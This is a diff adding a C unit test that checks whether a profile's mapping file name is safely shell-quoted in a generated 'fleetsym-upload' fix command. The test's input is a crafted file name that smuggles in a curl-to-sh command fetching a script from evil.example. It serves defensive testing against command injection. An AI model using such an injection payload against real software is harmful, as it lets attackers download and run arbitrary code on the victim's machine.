@@ -564,3 +564,57 @@ TEST(strpool_and_u64map)
 	strpool_free(&p);
 	u64map_free(&m);
 }
+
+/* A mapping file name comes from an ingested profile, that is from anyone: the fix command
+ * keeps it one shell word that runs nothing, checked by bash itself running the command with
+ * fleetsym-upload defined as a function that prints its last argument. */
+TEST(missing_fix_is_shell_quoted)
+{
+	static const char evil[] = "/opt/app/svc;curl${IFS}-s${IFS}http://evil.example/x|sh;#'q";
+	static const int64_t v[] = {10, 5, 3, 2, 1};
+	struct pstore_stack st[5];
+	struct pstore_result r = result(st, v, 5);
+	struct qsym_result s = qres();
+	struct render_input in = {.r = &r, .s = &s};
+	char path[] = "/tmp/test_render_fix.XXXXXX", cmd[256], got[256] = "";
+	struct jsonw w = {0};
+	json_error_t jerr;
+	const char *fix;
+	char *out;
+	json_t *j;
+	FILE *f;
+	int fd;
+
+	for (size_t i = 0; i < r.nlocs; i++) /* build ID aaaa's file */
+		if (!strcmp(locs[i].mapping_file, "/usr/bin/fx"))
+			locs[i].mapping_file = evil;
+	CHECK_INT(render_missing(&in, "http://127.0.0.1:7070", &w), 0);
+	for (size_t i = 0; i < r.nlocs; i++)
+		if (locs[i].mapping_file == evil)
+			locs[i].mapping_file = "/usr/bin/fx";
+	out = text(&w);
+	j = json_loads(out, 0, &jerr);
+	CHECK(j);
+	fix = json_string_value(
+	    json_object_get(json_array_get(json_object_get(j, "missing"), 0), "fix"));
+	CHECK(fix && !strncmp(fix, "fleetsym-upload ", 16));
+	fd = mkstemp(path);
+	CHECK(fd >= 0);
+	close(fd);
+	snprintf(cmd, sizeof(cmd),
+		 "bash -c 'fleetsym-upload() { printf %%s \"${@: -1}\"; }; eval \"$(cat)\"' >%s",
+		 path);
+	f = popen(cmd, "w");
+	CHECK(f);
+	fputs(fix, f);
+	CHECK_INT(pclose(f), 0);
+	f = fopen(path, "r");
+	CHECK(f);
+	if (!fgets(got, sizeof(got), f))
+		got[0] = '\0';
+	fclose(f);
+	unlink(path);
+	CHECK_STR(got, evil);
+	json_decref(j);
+	free(out);
+}
